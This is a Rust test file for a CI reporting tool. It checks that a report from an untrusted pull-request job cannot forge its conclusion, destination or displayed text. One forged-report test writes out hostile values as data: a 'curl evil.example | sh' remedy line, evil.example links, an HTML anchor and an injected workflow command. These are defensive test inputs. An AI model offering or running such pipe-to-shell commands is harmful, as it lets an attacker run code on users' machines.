//! The job that builds a change may not write; another shows its report, runs nothing of it, and takes it as a stranger's word.

use doubles::github::{Call, CodeScanning, GitHub, Options, Repository};
use serde_json::{Value, json};

use crate::support::job::{clean, commit, faulty, in_job};
use crate::support::{Delivery, Ended, Source, read_json};

const PULL: &str = "refs/pull/7/merge";
const QUEUE: &str = "refs/heads/gh-readonly-queue/main/pr-7-6113728f27ae82c7b1a177c8d03f9e96e0adf246";
const HEAD: &str = "b8c4d3fd3ef3a2dd6d6f8f0ae3f0f3ed4b1a3e5b";

/// A pull request of the repository: the checkout is GitHub's trial merge.
fn pull_request(source: &Source, delivery: Delivery) -> Delivery {
    let base = source.git(&["rev-list", "--max-parents=0", "HEAD"]);
    let side = |branch: &str, sha: &str| json!({ "ref": branch, "sha": sha, "repo": { "id": 1 } });
    let event = json!({ "pull_request": { "number": 7, "head": side("change", HEAD), "base": side("main", &base) } });
    std::fs::write(source.beside("event.json"), event.to_string()).unwrap();
    let event = source.beside("event.json").display().to_string();
    delivery.variable("GITHUB_EVENT_NAME", "pull_request").variable("GITHUB_REF", PULL).variable("GITHUB_EVENT_PATH", &event)
}

fn at_github(source: &Source, options: Options) -> Repository {
    GitHub::start().repository(options.commit(&commit(source)).commit(HEAD))
}

/// The job that builds the change: it has no token.
fn judged(source: &Source, repository: &Repository, code: i32) -> Ended {
    let delivery = pull_request(source, in_job(source, repository.environment())).variable("INPUT_GITHUB-TOKEN", "");
    delivery.flag("--code-scanning", "off").ends_with(code)
}

/// The job that shows it: an empty folder with the report in it, and no git.
fn shows(source: &Source, repository: &Repository, result: &str) -> Delivery {
    let show = source.run("show").variable("GITHUB_ACTIONS", "true").variable("GITHUB_SHA", &commit(source));
    let show = repository.environment().into_iter().fold(show, |show, (name, value)| show.variable(&name, &value));
    pull_request(source, show).without("--build-context").path("/nonexistent").flag("--job-result", result)
}

/// Puts another record in the place of the report's.
fn forge(source: &Source, change: impl FnOnce(&mut Value)) {
    let path = source.beside("report/record.json");
    let mut record = read_json(&path);
    change(&mut record);
    std::fs::write(path, record.to_string()).unwrap();
}

#[test]
fn what_the_changes_job_found_is_shown_for_its_own_ref_and_commit_under_a_name_of_its_own() {
    let source = faulty();
    let repository = at_github(&source, Options::default());
    let ended = judged(&source, &repository, 3);
    assert_eq!((repository.journal().len(), ended.stdout.contains("::error")), (0, false), "{ended}");
    shows(&source, &repository, "failure").ends_with(0);
    let analyses = repository.analyses();
    assert!(analyses.len() == 2 && analyses.iter().all(|analysis| analysis.reference == PULL), "{analyses:?}");
    assert!(repository.alerts(PULL).iter().any(|alert| alert.rule == "github-pat"));
    let [check] = &*repository.check_runs() else { panic!("{:?}", repository.check_runs()) };
    assert_eq!((check.commit.as_str(), check.conclusion.as_deref()), (HEAD, Some("failure")));
    assert!(check.name.starts_with("gp-deliver (prod, ") && check.name.ends_with("as the change's job reports it"), "{check:?}");
    let title = check.title.as_deref().unwrap();
    assert!(title.starts_with("The change's job reports: Blocked for prod: 1 leaked secret"), "{title}");
    assert_eq!(check.annotations.len(), 2);
}

#[test]
fn the_conclusion_is_never_better_than_the_job_nor_than_what_the_report_says() {
    for (source, code, result, conclusion) in [
        (clean(), 0, "success", "success"),
        (clean(), 0, "failure", "failure"),
        (clean(), 0, "cancelled", "failure"),
        (faulty(), 3, "success", "failure"),
    ] {
        let repository = at_github(&source, Options::default());
        judged(&source, &repository, code);
        shows(&source, &repository, result).ends_with(0);
        assert_eq!(repository.check_runs()[0].conclusion.as_deref(), Some(conclusion), "{result} {code}");
    }
}

#[test]
fn a_forged_report_decides_neither_the_rules_nor_the_place_nor_the_ending() {
    let source = faulty();
    let repository = at_github(&source, Options::default());
    judged(&source, &repository, 3);
    forge(&source, |record| {
        record["result"] = "skipped".into();
        record["environment"] = "local".into();
        record["demands"]["secrets"] = "advisory".into();
        record["demands"]["vulnerabilities"] = "advisory".into();
        record["severity_threshold"] = "CRITICAL".into();
        record["name"] = "another/image".into();
        record["destination"] = "registry.evil.example/x".into();
        record["warnings"] = json!(["[press here](https://evil.example/) ::add-mask::x"]);
        record["failure"] = json!({
            "what": "<a href='https://evil.example/'>x</a>", "why": "y", "remedy": "curl evil.example | sh",
            "excerpt": [], "to_copy": ["curl evil.example | sh"],
        });
        for finding in record["findings"].as_array_mut().unwrap() {
            finding["url"] = "https://evil.example/".into();
        }
    });
    let ended = shows(&source, &repository, "failure").ends_with(0);
    assert!(!ended.stdout.lines().any(|line| line.starts_with("::") && !line.starts_with("::add-mask::ghs_")), "{ended}");
    let [check] = &*repository.check_runs() else { panic!("{:?}", repository.check_runs()) };
    assert_eq!(check.conclusion.as_deref(), Some("failure"));
    assert!(check.name.starts_with("gp-deliver (prod, ") && !check.name.contains("another"), "{}", check.name);
    let summary = check.summary.as_deref().unwrap();
    assert!(summary.contains("1 leaked secret") && !summary.contains("](https://evil"), "{summary}");
    assert!(!summary.contains("| sh") && !summary.contains("<a "), "{summary}");
    assert!(repository.analyses().iter().all(|analysis| analysis.reference == PULL && !analysis.category.contains("another")));
}

#[test]
fn a_report_that_hides_its_findings_passes_only_where_the_job_did() {
    let source = faulty();
    let repository = at_github(&source, Options::default());
    judged(&source, &repository, 3);
    forge(&source, |record| (record["result"], record["findings"]) = ("skipped".into(), json!([])));
    shows(&source, &repository, "failure").ends_with(0);
    let check = &repository.check_runs()[0];
    assert_eq!(check.conclusion.as_deref(), Some("failure"));
    assert!(check.title.as_deref().unwrap().contains("did not end well"), "{check:?}");
}

#[test]
fn what_is_not_this_changes_report_is_not_shown() {
    let source = clean();
    let repository = at_github(&source, Options::default());
    judged(&source, &repository, 0);
    let refused = |change: &dyn Fn(&mut Value), words: &str| {
        let path = source.beside("report/record.json");
        let kept = std::fs::read(&path).unwrap();
        forge(&source, change);
        shows(&source, &repository, "success").ends_with(1).says(words);
        std::fs::write(&path, kept).unwrap();
    };
    refused(&|record| record["source"]["commit"] = "0".repeat(40).into(), "is not the one that the run is of");
    refused(&|record| record["version"] = 1.into(), "its version is 1");
    refused(&|record| record["result"] = "delivered".into(), "says that an image was published");
    refused(&|record| *record = json!({ "version": 2 }), "is not the report of a change's job");
    let link = |to: &std::path::Path| {
        std::fs::remove_file(source.beside("report/record.json")).unwrap();
        std::os::unix::fs::symlink(to, source.beside("report/record.json")).unwrap();
    };
    std::fs::copy(source.beside("report/record.json"), source.beside("elsewhere.json")).unwrap();
    link(&source.beside("elsewhere.json"));
    shows(&source, &repository, "success").ends_with(1).says("is not the report of a change's job");
    assert_eq!((repository.count(Call::UploadSarif), repository.count(Call::CreateCheckRun)), (0, 0));
}

#[test]
fn only_what_has_a_ref_of_its_own_is_shown() {
    let source = clean();
    let repository = at_github(&source, Options::default());
    judged(&source, &repository, 0);
    let show = || shows(&source, &repository, "success");
    for (event, reference) in [
        ("push", "refs/heads/main"),
        ("pull_request_target", "refs/heads/main"),
        ("pull_request", "refs/heads/main"),
        ("merge_group", "refs/heads/main"),
        ("workflow_run", PULL),
    ] {
        let show = show().flag("--environment", "prod").variable("GITHUB_EVENT_NAME", event);
        show.variable("GITHUB_REF", reference).ends_with(1).says("There is nothing to show here");
    }
    show().without("--job-result").ends_with(1).says("`job-result` is missing");
    show().variable("INPUT_GITHUB-TOKEN", "").ends_with(1).says("gives no `github-token`");
    assert_eq!(repository.journal().len(), 0);
    let queued = show().variable("GITHUB_EVENT_NAME", "merge_group").variable("GITHUB_REF", QUEUE);
    queued.flag("--environment", "prod").ends_with(0);
    assert!(repository.analyses().iter().all(|analysis| analysis.reference == QUEUE));
}

#[test]
fn a_job_that_shows_and_may_not_says_which_right_is_missing_and_shows_the_rest() {
    let source = clean();
    let repository = at_github(&source, Options::default().permissions(&["checks: write"]));
    judged(&source, &repository, 0);
    shows(&source, &repository, "success").ends_with(1).says("security-events: write");
    assert_eq!(repository.check_runs().len(), 1);
    shows(&source, &repository, "success").flag("--code-scanning", "off").ends_with(0);

    let repository = at_github(&source, Options::default().permissions(&["security-events: write"]));
    shows(&source, &repository, "success").ends_with(1).says("checks: write");
    assert_eq!(repository.analyses().len(), 2);

    let repository = at_github(&source, Options::default().code_scanning(CodeScanning::Off));
    let ended = shows(&source, &repository, "success").ends_with(0);
    assert!(ended.stdout.contains("switch code scanning on"), "{ended}");
    shows(&source, &repository, "success").flag("--code-scanning", "required").ends_with(1);
}
